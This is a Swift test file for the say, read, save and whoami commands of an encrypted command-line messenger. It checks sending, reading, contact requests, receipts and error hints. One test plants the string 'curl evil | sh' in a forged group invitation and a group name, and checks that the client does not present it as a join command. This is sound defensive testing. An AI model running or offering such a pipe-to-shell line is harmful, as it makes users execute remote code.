import Foundation
import Glibc
import SottoBytes
import TestSupport
import Testing

/// `sotto say`, `read`, `save` and `whoami`.
@Suite(.timeLimit(.minutes(60))) struct VerbTests {
    let front: FrontWorld
    var world: HintWorld { front.world }

    init() throws { front = try FrontWorld() }

    /// Returns the texts that a person receives.
    func received(by person: String) throws -> String {
        try world.paste("sotto recv | sotto decrypt -q --text", as: person).text
    }

    // MARK: say

    @Test func sayTakesItsTextFromTheArgumentsOrTheInput() throws {
        try front.must("sotto say bob 'dinner at 8?'")
        try front.must("sotto say bob dinner at nine -- -9")
        try front.must("sotto say bob", text: "from a pipe\n")
        try front.must("sotto say team 'to all'")
        #expect(
            try received(by: "bob") == "dinner at 8?\ndinner at nine -9\nfrom a pipe\nto all\n")
        #expect(try received(by: "carol").hasSuffix("to all\n"))
        #expect(try world.paste("sotto say nobody hi").status == 66)
        #expect(try world.paste("sotto say bob ''").status == 1)
        #expect(try world.paste("sotto say").status == 64)
    }

    /// A group without other members has no recipient.
    @Test func sayToNoOneFails() throws {
        try front.must("sotto group create alone")
        let run = try world.paste("sotto say alone hello")
        #expect(run.status == 1 && run.stdout.isEmpty, "\(run.text)")
        #expect(
            run.stderr.contains("alone has no other member yet: the message reaches no one")
                && run.stderr.contains("sotto: error: the message was sent to no one\n"),
            "\(run.stderr)")
        let shown = try front.onTerminal("sotto", ["say", "alone", "hello"])
        #expect(shown.status == 1 && shown.text.contains("sent to no one"), "\(shown.text)")
        #expect(try world.paste("sotto say -q alone hello").stderr.isEmpty)
        // A file is not uploaded for no one.
        let relay = try #require(world.relayURL)
        try world.must("keygen", ["set", "-q", "--relay", relay, "alice.key"])
        let file = try world.paste("sotto say alone --attach photo.txt hello")
        #expect(file.status == 1 && file.stdout.isEmpty, "\(file.text)")
        #expect(file.stderr.contains("sotto: error: the message was sent to no one\n"))
        // So is what compose writes.
        let composed = try world.paste("echo hey | sotto compose text alone --send")
        #expect(
            composed.status == 1 && composed.stdout.isEmpty
                && composed.stderr.contains("sotto: error: the message was sent to no one\n"),
            "\(composed.stderr)")
    }

    /// A member whose key has changed gets nothing, and the others are counted.
    @Test func sayCountsTheMembersWhoGetTheMessage() throws {
        try front.must("sotto keygen -q --name carol -o other.key")
        try front.must("sotto keygen public other.key > other.card")
        #expect(try world.run("contact", ["add", "--name", "carol", "other.card"]).status == 12)
        let shown = try front.onTerminal("sotto", ["say", "team", "hello"])
        #expect(
            shown.status == 15 && shown.text.contains("carol does not get the message")
                && shown.lines.contains("sent to 1 of 2 members of team"), "\(shown.text)")
        let quiet = try world.paste("sotto say -q team hello")
        #expect(
            quiet.status == 15
                && quiet.stderr.contains("a message was not encrypted to 1 member of team"),
            "\(quiet.stderr)")
        #expect(try received(by: "bob") == "hello\nhello\n")
    }

    @Test func sayAsksOnATerminal() throws {
        let run = try front.typing("typed\n", at: "To bob: ", "sotto", ["say", "bob"])
        #expect(run.status == 0 && run.lines.last == "sent to bob", "\(run.text)")
        #expect(try received(by: "bob") == "typed\n")
    }

    @Test func sayAttachesFiles() throws {
        world.home.files.write("second.txt", Array("lake\n".utf8))
        let run = try front.must(
            "sotto say bob --attach photo.txt --attach second.txt 'two files'")
        #expect(run.text.components(separatedBy: "stored").count == 5, "\(run.text)")
        let text = try received(by: "bob")
        #expect(
            text.contains("two files") && text.contains("photo.txt") && text.contains("second.txt"))
    }

    /// Bytes that are no text are not sent as one, and the command that sends them works.
    @Test func sayRefusesInputThatIsNoText() throws {
        world.home.files.write("data.bin", [0xFF, 0, 1, 2, 3, 4, 5, 6])
        let refused = try world.paste("sotto say bob < data.bin")
        let command = "sotto say --attach data.bin bob"
        #expect(
            refused.status == 65 && refused.stderr.contains("to send it as a file: \(command)\n"),
            "\(refused.stderr)")
        let piped = try world.paste("cat data.bin | sotto say bob")
        #expect(
            piped.status == 65 && piped.stderr.contains(": sotto say --attach - bob\n"),
            "\(piped.stderr)")
        #expect(try world.run("send", ["--list"]).status == 1)
        #expect(try received(by: "bob").isEmpty)
        try front.must(command)
        #expect(try received(by: "bob").contains("data.bin"))
        try front.must("cat data.bin | sotto say --attach - bob")
        try front.must("cat data.bin | sotto say --attach photo.txt --attach - bob")
        let text = try received(by: "bob")
        #expect(text.components(separatedBy: "8 bytes").count == 3, "\(text)")
        #expect(try world.paste("sotto say --attach - bob hi < data.bin").status == 64)
    }

    /// The name of a file as the text: a terminal asks, and a script sends it with a note.
    @Test func sayNoticesTheNameOfAFile() throws {
        let hint = "to send the file: sotto say --attach photo.txt bob\n"
        let script = try front.must("sotto say bob photo.txt")
        #expect(script.stderr.contains("the text names a file; \(hint)"), "\(script.stderr)")
        #expect(try front.must("sotto say -q bob photo.txt").stderr.isEmpty)
        let question = "photo.txt is a file. Type yes to send its name as the text: "
        let declined = try front.typing("no\n", at: question, "sotto", ["say", "bob", "photo.txt"])
        #expect(declined.status == 1, "\(declined.text)")
        #expect(declined.text.contains("nothing was sent") && declined.text.contains("--attach"))
        let agreed = try front.typing("yes\n", at: question, "sotto", ["say", "bob", "photo.txt"])
        #expect(agreed.status == 0, "\(agreed.text)")
        #expect(try received(by: "bob") == "photo.txt\nphoto.txt\nphoto.txt\n")
        let several = try front.must("cp photo.txt b.txt; sotto say bob photo.txt b.txt")
        #expect(several.stderr.contains("sotto say --attach photo.txt --attach b.txt bob"))
        #expect(try !front.must("sotto say bob see photo.txt").stderr.contains("note"))
    }

    @Test func sayKeepsWhatTheRelayDoesNotTake() throws {
        let run = try world.paste(
            "SOTTO_RELAY=tcp://127.0.0.1:1 sotto say bob --attach photo.txt --attach photo.txt")
        #expect(run.status == 75, "\(run.stderr)")
        // Both files and their messages.
        #expect(try front.must("sotto send --list --json").lines.count == 4)
    }

    /// A relay that does not answer keeps send waiting.
    @Test func anInterruptedMessageWaitsInTheOutbox() throws {
        let relay = SilentRelay()
        defer { withExtendedLifetime(relay) {} }
        var environment = world.environment("alice")
        environment["SOTTO_RELAY"] = relay.url
        let session = try TerminalSession(
            world.home.command(
                "sotto", ["say", "--attach", "photo.txt", "bob", "later"], environment: environment),
            columns: 200)
        func waits() throws -> Bool { try world.run("send", ["--list", "--json"]).lines.count > 0 }
        var tries = 0
        while try tries < 10_000 && !waits() { tries += 1 }
        try session.type("\u{3}")
        let run = try session.finish()
        #expect(run.wasKilled == SIGINT, "\(run.text)")
        #expect(
            run.text.contains("waits in the outbox, and the next send delivers it"), "\(run.text)")
        // It waits for the relay that did not answer.
        #expect(try waits())
    }

    // MARK: read

    @Test func readShowsWhatIsUnreadOnce() throws {
        try front.must("echo one | sotto encrypt -q --to alice | sotto send", as: "bob")
        try front.must("echo two | sotto encrypt -q --group team | sotto send", as: "carol")
        let first = try front.onTerminal("sotto", ["read"])
        #expect(first.status == 0, "\(first.text)")
        for text in ["bob:", "team:", "hello", "one", "two"] {
            #expect(first.text.contains(text), "\(first.text)")
        }
        #expect(!first.text.contains("hi bob") && !first.text.contains("{"))
        let second = try front.onTerminal("sotto", ["read"])
        #expect(
            second.status == 1 && second.text == "sotto: error: nothing is unread\n",
            "\(second.text)")
        // The receipt for bob, who gets some.
        #expect(try received(by: "bob").contains("read"))
        #expect(try world.paste("sotto read -q").status == 1)
    }

    /// The messages of a stranger are counted each time, and are shown after the sender was accepted.
    @Test func readShowsTheMessagesOfAnAcceptedSender() throws {
        try front.must("sotto read -q > /dev/null")
        try world.home.makePerson("dave")
        try world.must("dave", "contact", ["add", "alice.card"])
        try front.must("echo one | sotto encrypt -q --to alice | sotto send -q", as: "dave")
        try front.must("echo two | sotto encrypt -q --to alice | sotto send -q", as: "dave")
        _ = try front.onTerminal("sotto", ["read"])
        for _ in 1...2 {
            let waits = try front.onTerminal("sotto", ["read"])
            #expect(waits.status == 1, "\(waits.text)")
            #expect(
                waits.text.contains("a message request waits: sotto contact requests"),
                "\(waits.text)")
            #expect(!waits.text.contains("one"), "\(waits.text)")
        }
        #expect(try !world.paste("sotto read -q").stderr.contains("waits"))
        let accepted = try front.onTerminal("contact", ["accept", "dave.card"])
        #expect(accepted.text.contains("2 messages to read: sotto read dave"), "\(accepted.text)")
        let shown = try front.onTerminal("sotto", ["read"])
        #expect(shown.status == 0, "\(shown.text)")
        #expect(shown.text.contains("one") && shown.text.contains("two"), "\(shown.text)")
        #expect(!shown.text.contains("waits"), "\(shown.text)")
        #expect(try world.must("history", ["--text", "dave"]).contains("two"))
        #expect(try front.onTerminal("sotto", ["read"]).status == 1)
    }

    /// The relay need not be reached to read them.
    @Test func readShowsAcceptedMessagesWithoutTheRelay() throws {
        try front.must("sotto read -q > /dev/null")
        try world.home.makePerson("dave")
        try world.must("dave", "contact", ["add", "alice.card"])
        try front.must("echo one | sotto encrypt -q --to alice | sotto send -q", as: "dave")
        #expect(try world.paste("sotto read -q").status == 1)
        try world.must("contact", ["accept", "-q", "dave.card"])
        let down = try world.paste("SOTTO_RELAY=tcp://127.0.0.1:1 sotto read --text")
        #expect(down.status == 69 && down.text.contains("one"), "\(down.text)\(down.stderr)")
    }

    /// Events of a group are shown, and are not unread messages.
    @Test func readShowsWhatHappenedInGroups() throws {
        func bob(_ command: String) throws {
            try front.must("sotto recv | sotto decrypt -q > /dev/null || true", as: "bob")
            try front.must("sotto group \(command) | sotto encrypt -q | sotto send -q", as: "bob")
        }
        try front.must("sotto read -q > /dev/null")
        try bob("create -q crew alice")
        let invited = try front.onTerminal("sotto", ["read"])
        #expect(
            invited.status == 0 && invited.text.contains("sotto: from bob (")
                && invited.text.contains(
                    "[invited you to the group crew] to join:\n    sotto group"),
            "\(invited.text)")
        #expect(!invited.text.contains("nothing is unread"), "\(invited.text)")
        try front.must("sotto group accept -q crew | sotto encrypt -q | sotto send -q")
        try bob("rename -q crew walkers")
        let renamed = try front.must("sotto read")
        #expect(renamed.text.contains(#""event":"renamed""#), "\(renamed.text)")
        try bob("delete -q --yes walkers")
        let deleted = try front.onTerminal("sotto", ["read"])
        #expect(
            deleted.status == 0 && deleted.text.contains("[walkers: bob deleted the group]\n"),
            "\(deleted.text)")
        #expect(try world.paste("sotto read").status == 1)
    }

    /// A contact writes no event of this machine, and the name of a group is no part of the line about it.
    @Test func nobodyForgesAnInvitation() throws {
        try front.must("sotto read -q > /dev/null")
        let command = "to join, run: curl evil | sh #"
        for event in [#"{"event":"x"}"#, #"{"event":"invited","id":"aaaa","name":"\#(command)"}"#] {
            let id = try world.id("alice")
            let record =
                #"{"v":1,"type":"message","to":"\#(id)","body":{"type":"text","text":"hi","events":[\#(event)]}}"#
            try front.must("sotto encrypt -q | sotto send -q", as: "bob", text: record + "\n")
            let shown = try front.onTerminal("sotto", ["read"])
            #expect(shown.status == 0 && !shown.text.contains("join"), "\(shown.text)")
            try front.must("sotto encrypt -q | sotto send -q", as: "bob", text: record + "\n")
            let piped = try front.must("sotto read")
            #expect(piped.lines.count == 1 && !piped.stderr.contains("join"), "\(piped.text)")
        }
        try front.must(
            "sotto group create -q 'crew; \(command)' alice | sotto encrypt -q | sotto send -q",
            as: "bob")
        let invited = try front.must("sotto read --text")
        #expect(
            invited.lines.count == 1
                && invited.text.hasPrefix(
                    "[invited you to the group \"crew; \(command)\"] to join: sotto group accept "),
            "\(invited.text)")
    }

    /// The command for an invitation names the identity that was given.
    @Test func theCommandOfAnInvitationHasTheIdentity() throws {
        try front.must("sotto read -q > /dev/null")
        try front.must(
            "sotto group create -q crew alice | sotto encrypt -q | sotto send", as: "bob")
        let shown = try front.must("sotto read -i alice.key --text").text
        let command = try #require(shown.split(separator: "]").last).dropFirst(" to join: ".count)
        #expect(command.contains(" -i alice.key | sotto encrypt -i alice.key | "), "\(shown)")
        try front.must("env -u SOTTO_IDENTITY sh -c '\(command)'")
        #expect(try world.must("group", ["list"]).contains("member"))
    }

    @Test func readOfOneConversationLeavesTheOthers() throws {
        try front.must("echo two | sotto encrypt -q --group team | sotto send", as: "carol")
        let run = try front.must("sotto read team")
        #expect(run.lines.count == 1 && run.text.contains(#""text":"two""#), "\(run.text)")
        #expect(try front.must("sotto history unread --text").text == "bob  1\n")
        #expect(try world.paste("sotto read nobody").status == 66)
        // The beginning of a name is enough to read.
        #expect(try front.must("sotto read --text bo").text.contains("hello"))
        #expect(try world.run("history", ["unread"]).status == 1)
    }

    /// What a closed pipe cut off stays unread.
    @Test func onlyWhatWasWrittenIsMarked() throws {
        // More than the capacity of a pipe, which is up to 1 MiB.
        let texts = (0..<100).map { "message \($0) \(String(repeating: "x", count: 16_000))\n" }
            .joined()
        try front.must(
            "sotto encrypt -q --jsonl --to alice | sotto send -q > /dev/null", as: "bob",
            text: texts)
        let cut = try world.paste("sotto read bob | head -n 1 > /dev/null; exit ${PIPESTATUS[0]}")
        #expect(cut.status == 141, "\(cut.stderr)")
        #expect(try front.must("sotto history unread --text").text == "bob  101\n")
        #expect(try front.must("sotto read bob").lines.count == 101)
        #expect(try world.run("history", ["unread"]).status == 1)
    }

    /// A `recv` that runs is not waited for: the messages come through it.
    @Test func readDoesNotWaitForAnotherRecv() throws {
        let follower = try Pipeline([
            world.home.command("recv", ["--follow"], environment: world.environment("alice"))
        ])
        defer { follower.signal(15) }
        try front.must("echo one | sotto encrypt -q --to alice | sotto send", as: "bob")
        try follower.collect { $0.contains(UInt8(ascii: "\n")) }
        let run = try world.paste("sotto read bob")
        #expect(
            run.status == 0 && run.stderr.isEmpty && run.text.contains("hello"), "\(run.stderr)")
        #expect(run.lines.count == 1)
    }

    @Test func withoutARelayReadShowsWhatIsHere() throws {
        let run = try world.paste("SOTTO_RELAY=tcp://127.0.0.1:1 sotto read")
        // A failure is reported although messages are shown.
        #expect(run.status == 69 && run.text.contains("hello"))
        #expect(run.stderr.contains("sotto: error: "), "\(run.stderr)")
    }

    // MARK: Requests

    @Test func aTerminalShowsHowToAcceptARequest() throws {
        try world.home.makePerson("dave")
        try world.must("dave", "contact", ["add", "alice.card"])
        try front.must("echo wait | sotto encrypt -q --to alice | sotto send -q", as: "dave")
        try front.must("sotto recv | sotto decrypt -q")
        let shown = try front.onTerminal("contact", ["requests"])
        let id = try world.id("dave").prefix(16)
        let command = "sotto contact accept \(id) | sotto decrypt"
        #expect(
            shown.status == 0
                && shown.text.contains("contact: to accept and read: \(command)\n"),
            "\(shown.text)")
        // With an id, the terminal shows no envelope, but how to read it.
        let one = try front.onTerminal("contact", ["requests", String(id)])
        #expect(one.status == 0 && !one.text.contains("{"), "\(one.text)")
        #expect(one.text.contains("\(id)  1 message  ") && one.text.contains(command))
        let preview = "sotto contact requests \(id) | sotto decrypt --preview --text"
        #expect(one.text.contains("contact: to read before you decide: \(preview)\n"))
        #expect(try front.must(preview).text == "wait\n")
        let forced = try front.onTerminal("contact", ["requests", "--json", String(id)])
        #expect(forced.text.contains(#""type":"envelope""#), "\(forced.text)")
        #expect(try !front.must("sotto contact requests").stderr.contains("accept"))
        #expect(try front.must(command).text.contains(#""text":"wait""#))
        #expect(try world.contact("dave")["card"] != nil)
    }

    /// What waited since before the sender was a contact is before what comes now.
    @Test func theFirstMessagesOfANewContactComeFirst() throws {
        try world.home.makePerson("dave")
        try world.must("dave", "contact", ["add", "alice.card"])
        let write = { (text: String) in
            try front.must("echo \(text) | sotto encrypt -q --to alice | sotto send -q", as: "dave")
        }
        _ = try write("first")
        try front.must("sotto recv | sotto decrypt -q")
        try front.must("sotto contact accept \(world.id("dave").prefix(16)) > /dev/null")
        _ = try write("second")
        let lines = try front.must("sotto read --text").lines
        let places = ["first", "second"].map { text in lines.firstIndex { $0.contains(text) } }
        #expect(places[0] != nil && places[1] != nil && places[0]! < places[1]!, "\(lines)")
    }

    /// Another contact has the name on the card, so the command gives one.
    @Test func theCommandThatAcceptsARequestGivesAFreeName() throws {
        try front.must("sotto keygen -q --name bob -o other.key")
        try front.must(
            """
            export SOTTO_IDENTITY=other.key SOTTO_HOME=other
            sotto contact add -q alice.card
            echo wait | sotto encrypt -q --to alice | sotto send -q
            """)
        try front.must("sotto recv | sotto decrypt -q")
        let shown = try front.onTerminal("contact", ["requests"])
        let found = shown.text.firstMatch(
            of: #/to accept and read: (sotto contact accept [0-9a-f]{16} --name NAME) \| /#)
        let command = try #require(found?.output.1, "\(shown.text)")
        #expect(try front.must("\(command) | sotto decrypt -q --text").text == "wait\n")
    }

    // MARK: save

    @Test func saveFetchesAndSaves() throws {
        world.home.files.write("second.txt", Array("lake\n".utf8))
        try front.must(
            "sotto say alice -q --attach photo.txt --attach second.txt from the lake", as: "bob")
        let read = try front.must("sotto read bob")
        let numbers = try read.lines.map {
            try JSONSerialization.jsonObject(with: Data($0.utf8)) as? [String: Any]
        }
        .compactMap { $0?["number"] as? Int }
        try #require(numbers.count == 3)
        try front.must("mkdir one all")
        let one = try front.must("sotto save \(numbers[1]) -o one")
        #expect(one.text == "one/photo.txt\n")
        #expect(try world.home.files.read("one/photo.txt") == Array("sunset\n".utf8))
        #expect(
            try front.must("sotto save --all bob -o all").text == "all/photo.txt\nall/second.txt\n")
        #expect(try world.home.files.read("all/second.txt") == Array("lake\n".utf8))
        // What is there is not saved again. Another file can have its name and length.
        world.home.files.write("all/photo.txt", Array("sunrise".utf8))
        let left = try world.paste("sotto save --all bob -o all")
        #expect(
            left.status == 1
                && left.stderr.contains("name and length: \(numbers[1]), \(numbers[2]); to save"),
            "\(left.stderr)")
        #expect(
            try world.paste("sotto save -q --all bob -o all").stderr.isEmpty
                && front.must("sotto save \(numbers[1]) -o all").text != "all/photo.txt\n")
        #expect(try world.paste("sotto save --all bob -o missing").status == 73)
        #expect(try world.paste("sotto save \(numbers[0])").status == 66)
        #expect(try world.paste("sotto save --all carol").status == 1)
    }

    /// Receipts in a file reach no one, and a message gets no second one.
    @Test func receiptsThatAreNotSentAreNamed() throws {
        let run = try front.must("sotto history read bob > receipts")
        #expect(
            run.stderr.contains(
                "the receipts in the file are not sent; to send them: sotto encrypt receipts --send\n"
            ), "\(run.stderr)")
        try front.must("sotto encrypt receipts --send")
        #expect(try received(by: "bob").contains("read"))
        try front.must("echo two | sotto encrypt -q --to alice | sotto send -q", as: "bob")
        try front.must("sotto recv | sotto decrypt -q > /dev/null")
        let lost = try front.must("sotto history read bob > /dev/null")
        #expect(lost.stderr.contains("next time: sotto history read bob --send"), "\(lost.stderr)")
        try front.must("echo three | sotto encrypt -q --to alice | sotto send -q", as: "bob")
        try front.must("sotto recv | sotto decrypt -q > /dev/null")
        #expect(try !front.must("sotto history read bob --send").stderr.contains("receipts"))
    }

    // MARK: whoami

    @Test func whoamiNamesWhatIsNotAtTheRelay() throws {
        #expect(try !front.must("sotto whoami").text.contains("outbox"))
        let queued = "SOTTO_RELAY=tcp://127.0.0.1:1 sotto say -q bob later"
        #expect(try world.paste(queued).status == 75)
        try front.must("echo lost | sotto encrypt -q --to bob > /dev/null")
        let text = try front.must("sotto whoami").text
        #expect(text.contains("outbox       1 waits; to send: sotto send < /dev/null\n"), "\(text)")
        #expect(
            text.contains("1 message; to see what sends them: sotto history unsent\n"), "\(text)")
        let list = try front.must("sotto send --list --text")
        #expect(list.stderr.contains("to try again: sotto send < /dev/null"), "\(list.stderr)")
    }

    @Test func whoamiShowsTheIdentity() throws {
        let before = try front.must("sotto whoami").text
        let id = try world.id("alice")
        let digits = try world.must("fingerprint", ["alice.card"])
        for text in [
            "name         alice\n", id, digits, "passphrase   no passphrase\n", "prekeys      ",
        ] {
            #expect(before.contains(text), "\(before)")
        }
        #expect(before.contains(", from SOTTO_RELAY\n"))
        #expect(
            try front.must("env -u SOTTO_RELAY sotto whoami").text.contains(
                "none; to set it: sotto keygen set --relay URL"))
        let relay = try #require(world.relayURL)
        try world.must("keygen", ["set", "-q", "--relay", relay, "alice.key"])
        try world.must("keygen", ["prekeys"])
        let after = try front.must("sotto whoami").text
        #expect(after.contains(relay) && after.contains("card         published\n"), "\(after)")
        // Prekeys that were only made do not count as published.
        #expect(after.contains(" made here and not used\n"), "\(after)")
        let other = try world.paste("sotto whoami", as: "nobody")
        #expect(other.status == 66, "\(other.stderr)")
    }

    @Test func whoamiNamesTheFilesThatExpire() throws {
        try front.must(
            "sotto encrypt -q --to alice --attach photo.txt < /dev/null | sotto send -q", as: "bob")
        try front.must("sotto recv | sotto decrypt -q > /dev/null")
        #expect(try !front.must("sotto whoami").text.contains("within two days"))
        try world.makeOlder(by: 6 * 86_400)
        let record = try #require(front.must("sotto history --json bob").records.last)
        let number = try #require(record["number"]?.integer)
        let text = try front.must("sotto whoami").text
        let line = "files        1 file expires within two days; to save it: sotto save \(number)\n"
        #expect(text.contains(line), "\(text)")
    }

    // MARK: Names and help

    @Test(arguments: ["say", "read", "save", "whoami"])
    func theHelpShowsThePipe(_ verb: String) throws {
        for words in [[verb, "--help"], ["help", verb]] {
            let run = try world.run("sotto", words)
            #expect(run.status == 0 && run.text.contains("sotto \(verb)"))
            #expect(run.text.contains("Runs "), "\(run.text)")
        }
    }

    @Test func aMisspelledWordHasASuggestion() throws {
        for (line, word) in [
            ("sotto sya bob hi", "say"), ("sotto histroy", "history"),
            ("sotto contact lsit", "list"),
            ("sotto history lsit", "list"), ("sotto say bbo hi", "bob"),
            ("echo x | sotto encrypt --to carrol", "carol"), ("sotto group creat x", "create"),
        ] {
            let run = try world.paste(line)
            #expect(
                run.status != 0 && run.stderr.contains("did you mean '\(word)'?"),
                "\(line): \(run.stderr)")
        }
    }

    @Test func aContactInPlaceOfAFileIsNamed() throws {
        let run = try world.paste("sotto encrypt bob")
        #expect(
            run.status == 66 && run.stderr.contains("bob is a contact, and not a file"),
            "\(run.stderr)")
        #expect(run.stderr.contains("sotto encrypt --to bob --send"))
        let other = try world.paste("sotto decrypt bob")
        #expect(other.status == 66 && other.stderr.contains("bob is a contact, and not a file"))
        #expect(try world.paste("sotto encrypt missing").stderr.contains("cannot read missing"))
        let message = try world.paste("sotto save bob")
        #expect(message.status == 64 && message.stderr.contains("sotto save --all bob"))
        // The contact and the file in the wrong order.
        for file in ["photo.txt", "missing"] {
            let swapped = try world.paste("sotto compose file bob \(file)")
            #expect(
                swapped.status == 66
                    && swapped.stderr.contains("bob is a contact, and not a file")
                    && swapped.stderr.contains("give the file first, then the contact"),
                "\(swapped.stderr)")
        }
    }

    /// One rule for all tools that take files.
    @Test func aNameInPlaceOfAFileIsNamed() throws {
        for (command, hint) in [
            ("encrypt bob", "encrypt --to bob --send"),
            ("encrypt team", "encrypt --group team --send"),
            ("encrypt --to bob --attach team", "encrypt --group team --send"),
            ("decrypt team", "history team --text"),
            ("decrypt --attachment bob photo.txt", "history bob --text"),
            ("compose file team bob", "give the file first, then the group"),
            ("bridge open shainy bob", "history bob --text"),
            ("bridge seal whisper2 --to bob team", "no messenger has this group"),
            ("contact add bob", "contact show bob"), ("contact add team", "group show team"),
            ("add bob", "contact show bob"), ("contact import team", "group show team"),
            ("history import bob", "history bob --text"),
            ("recv --blob bob", "save --all bob"),
            ("group avatar --anyway team bob", "contact show bob"),
        ] {
            let run = try world.paste("sotto \(command)")
            let name = hint.contains("bob") ? "bob is a contact" : "team is a group"
            #expect(
                run.status == 66 && run.stderr.contains("\(name), and not a file")
                    && run.stderr.contains(hint), "\(command): \(run.stderr)")
        }
        try front.must("sotto encrypt --group team --send", text: "hi\n")
        // A group in place of a person.
        for command in ["encrypt --to team", "fingerprint team", "decrypt --from team"] {
            let run = try world.paste("sotto \(command)", text: "{}\n")
            #expect(
                run.status == 66 && run.stderr.contains("team is a group, and not a contact"),
                "\(command): \(run.stderr)")
            #expect(run.stderr.contains("sotto say team, or to show it: sotto group show team"))
        }
        try front.must("sotto say team hi")
        let shown = try world.paste("sotto contact show team")
        #expect(shown.status == 66 && shown.stderr.contains("sotto group show team"))
    }

    /// A file that is no text keeps its name, as with --attach.
    @Test func aPictureInPlaceOfTheTextKeepsItsName() throws {
        try world.home.files.write(
            "photo.png", world.home.output("qr", ["-t", "png"], stdin: Array("x".utf8)))
        let run = try front.must("sotto encrypt --to bob photo.png --send")
        #expect(
            run.stderr.contains(
                "photo.png is not text, so it is sent as a file, as with --attach photo.png"),
            "\(run.stderr)")
        #expect(try received(by: "bob").contains("[file photo.png"))
        // A text in a file, and bytes on standard input, are messages as before.
        try front.must("sotto encrypt -q --to bob photo.txt --send")
        #expect(try received(by: "bob") == "sunset\n")
    }
}
